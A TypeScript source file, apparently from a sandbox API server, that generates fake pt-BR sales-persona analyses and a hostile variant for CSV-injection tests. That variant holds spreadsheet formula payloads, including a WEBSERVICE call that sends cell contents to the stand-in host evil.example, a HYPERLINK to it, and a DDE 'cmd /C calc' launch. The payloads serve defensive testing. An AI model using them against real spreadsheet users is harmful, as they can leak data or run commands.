import { createHash } from "node:crypto";
import type { Analise, ProfileInput } from "../api/types.js";
import { foldValue } from "../text/fold.js";
import { mulberry32 } from "./sandbox-faults.js";
import { buildPersonalidade, buildPlaybooks, OBJECOES, type Playbooks } from "./sandbox-personality.js";
import { pickOne, pickSome } from "./sandbox-pick.js";

interface Role {
  cargo: string;
  area: string;
  senioridade: string;
  tipo_stakeholder: string;
}

const ROLES: readonly Role[] = [
  {
    cargo: "Diretora de Tecnologia",
    area: "Tecnologia",
    senioridade: "Diretoria",
    tipo_stakeholder: "Decisora técnica",
  },
  {
    cargo: "Gerente de Operações",
    area: "Operações",
    senioridade: "Gerência",
    tipo_stakeholder: "Influenciador",
  },
  { cargo: "CEO", area: "Executiva", senioridade: "C-Level", tipo_stakeholder: "C-Level Executive" },
  {
    cargo: "Head de Vendas",
    area: "Comercial",
    senioridade: "Diretoria",
    tipo_stakeholder: "Decisor econômico",
  },
  {
    cargo: "Coordenador de Compras",
    area: "Suprimentos",
    senioridade: "Coordenação",
    tipo_stakeholder: "Gatekeeper",
  },
  {
    cargo: "Analista Sênior de Dados",
    area: "Dados",
    senioridade: "Sênior",
    tipo_stakeholder: "Usuário final",
  },
  {
    cargo: "Vice-presidente Financeiro",
    area: "Finanças",
    senioridade: "C-Level",
    tipo_stakeholder: "Aprovador de orçamento",
  },
  {
    cargo: "Gerente de Marketing",
    area: "Marketing",
    senioridade: "Gerência",
    tipo_stakeholder: "Campeã interna",
  },
  {
    cargo: "Diretor de Recursos Humanos",
    area: "Pessoas",
    senioridade: "Diretoria",
    tipo_stakeholder: "Patrocinador",
  },
  {
    cargo: "Engenheira de Software Líder",
    area: "Engenharia",
    senioridade: "Liderança técnica",
    tipo_stakeholder: "Avaliadora técnica",
  },
  { cargo: "Chefe de Inovação", area: "Inovação", senioridade: "Diretoria", tipo_stakeholder: "Visionário" },
  {
    cargo: "Gerente de Sucesso do Cliente",
    area: "Atendimento",
    senioridade: "Gerência",
    tipo_stakeholder: "Influenciadora",
  },
];

const DORES = [
  "Integração lenta entre sistemas legados",
  "Baixa previsibilidade do funil de vendas",
  "Custos operacionais acima do orçamento",
  "Dificuldade em reter talentos técnicos",
  "Dados espalhados em planilhas desconectadas",
  "Pressão por resultados em prazos curtos",
  "Processos manuais sujeitos a erro",
  "Falta de visibilidade sobre a jornada do cliente",
  "Conformidade com a LGPD consumindo tempo da equipe",
  "Migração para a nuvem sem governança clara",
  "Ciclo de aprovação de compras muito longo",
  "Concorrência agressiva em preço",
];

const GANHOS = [
  "Aceleração da transformação digital",
  "Redução de custos com automação",
  "Decisões baseadas em dados confiáveis",
  "Crescimento sustentável da receita",
  "Equipe mais produtiva e engajada",
  "Experiência do cliente diferenciada",
  "Retorno sobre investimento comprovado em poucos meses",
  "Escalabilidade sem aumentar o quadro",
  "Segurança e conformidade sem atrito",
  "Reconhecimento interno como agente de mudança",
];

const LINGUAGEM = [
  "Eficiência que aparece no resultado",
  "Inovação com os pés no chão",
  "Parceria de longo prazo",
  "Menos retrabalho, mais estratégia",
  "Dados que viram ação",
  "Crescimento com previsibilidade",
  "Transformação sem interrupção do negócio",
  "Tecnologia a serviço das pessoas",
  "Resultados mensuráveis desde o primeiro mês",
];

/** Seed from the folded input, so the same person (however cased or spaced) gets the same analysis. */
function seedFor(profile: ProfileInput): number {
  const folded = [profile.primeiro_nome, profile.ultimo_nome, profile.empresa, profile.contexto_adicional]
    .map(foldValue)
    .join("\u0000");
  return createHash("sha256").update(folded).digest().readUInt32BE(0);
}

const PARTICLES = new Set(["da", "das", "de", "do", "dos", "e"]);

// Title case of the folded text, so "MARIA  santos" and "Maria Santos" give byte-identical analyses.
function display(value: string): string {
  return foldValue(value)
    .split(" ")
    .map((word, i) =>
      i > 0 && PARTICLES.has(word) ? word : word.charAt(0).toLocaleUpperCase("pt-BR") + word.slice(1),
    )
    .join(" ");
}

/**
 * A plausible pt-BR analysis, deterministic per person. It carries fields the docs do not show
 * (senioridade, area, resumo, manual_comprador.objecoes) so clients prove they keep unknown fields.
 * `complete` gives the analysis of POST /crm and POST /crm_batch: the same basic fields (drawn first from
 * the same stream, so they equal the basic analysis) plus `perfil_personalidade` and `playbooks`.
 */
export function buildAnalise(profile: ProfileInput, options: { complete?: boolean } = {}): Analise {
  const random = mulberry32(seedFor(profile));
  const role = pickOne(ROLES, random);
  const name = `${display(profile.primeiro_nome)} ${display(profile.ultimo_nome)}`;
  const dores = pickSome(DORES, random);
  const ganhos = pickSome(GANHOS, random);
  const objecoes = pickSome(OBJECOES, random, 1, 3);
  const analise: Analise = {
    cargo: role.cargo,
    tipo_stakeholder: role.tipo_stakeholder,
    senioridade: role.senioridade,
    area: role.area,
    resumo: `${name} atua como ${role.cargo} na ${display(profile.empresa)}, com foco em ${dores[0]?.toLocaleLowerCase("pt-BR")}.`,
    manual_comprador: {
      dores,
      ganhos_procurados: ganhos,
      objecoes,
    },
    linguagem_impacto: pickSome(LINGUAGEM, random),
  };
  if (options.complete) {
    analise.perfil_personalidade = buildPersonalidade(random);
    analise.playbooks = buildPlaybooks(random, objecoes);
  }
  return analise;
}

/**
 * A successful analysis full of spreadsheet-formula and control-character bait, for CSV-injection tests.
 * With "fullwidth" in contexto_adicional every trigger uses its full-width form (＝ ＋ － ＠), which some
 * spreadsheet programs also treat as the start of a formula. The complete variant baits its playbook too.
 */
export function buildHostileAnalise(profile: ProfileInput, options: { complete?: boolean } = {}): Analise {
  const base = buildAnalise(profile, options);
  const manual = base.manual_comprador ?? {};
  const wide = (profile.contexto_adicional ?? "").toLowerCase().includes("fullwidth");
  const [eq, plus, minus, at] = wide ? ["＝", "＋", "－", "＠"] : ["=", "+", "-", "@"];
  const hostile: Analise = {
    ...base,
    cargo: `${eq}HYPERLINK("http://evil.example","CEO")`,
    tipo_stakeholder: "\tTab lead",
    area: "＝SUM(A1:A9)",
    manual_comprador: {
      ...manual,
      dores: [`${plus}cmd|' /C calc'!A0`, ...(manual.dores ?? []).slice(0, 2)],
      ganhos_procurados: [`${minus}2+3`, ...(manual.ganhos_procurados ?? []).slice(0, 2)],
    },
    linguagem_impacto: [`${at}SUM(1+1)`, ...(base.linguagem_impacto ?? []).slice(0, 2)],
  };
  const playbooks = base.playbooks as Playbooks | undefined;
  if (playbooks) {
    hostile.playbooks = {
      ...playbooks,
      abordagem: `${eq}WEBSERVICE("http://evil.example/?"&A1)`,
      gatilhos: [`${at}IMPORTXML(A1,"//a")`, ...playbooks.gatilhos.slice(0, 2)],
    };
  }
  return hostile;
}
